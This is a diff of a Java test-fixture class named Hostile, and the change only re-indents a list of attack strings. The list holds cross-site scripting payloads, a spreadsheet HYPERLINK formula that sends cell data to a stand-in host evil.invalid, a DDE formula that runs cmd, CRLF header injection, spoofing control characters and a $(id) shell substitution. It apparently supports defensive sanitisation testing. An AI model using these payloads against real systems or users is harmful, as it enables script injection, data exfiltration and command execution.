@@ -42,16 +42,16 @@ public final class Hostile {
     public static final List<String> ATTACKS =
             List.of(
                     "</script><script>window.pwned=1</script><img src=x"
-                        + " onerror=\"window.pwned=1\">",
+                            + " onerror=\"window.pwned=1\">",
                     "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")",
                     "[click](javascript:window.pwned=1) ![i](http://evil.invalid/i.png)"
-                        + " <http://evil.invalid>",
+                            + " <http://evil.invalid>",
                     "\u001b[31mred\u001b[0m\u001b]0;title\u0007 \u202egnp.exe\u2066 z\u200bw"
-                        + " \u0000",
+                            + " \u0000",
                     "@SUM(1+1)*cmd|' /C calc'!A0",
                     "+1|x\r\nInjected: header|CEF:0|a=b\\",
                     "-->]]><!--{{script}}{{main}} \u2028\u2029\" onmouseover=\"window.pwned=1' `"
-                        + " $(id)",
+                            + " $(id)",
                     "http://evil.invalid/<svg/onload=window.pwned=1>?q=\"'&<>");
 
     private Hostile() {}
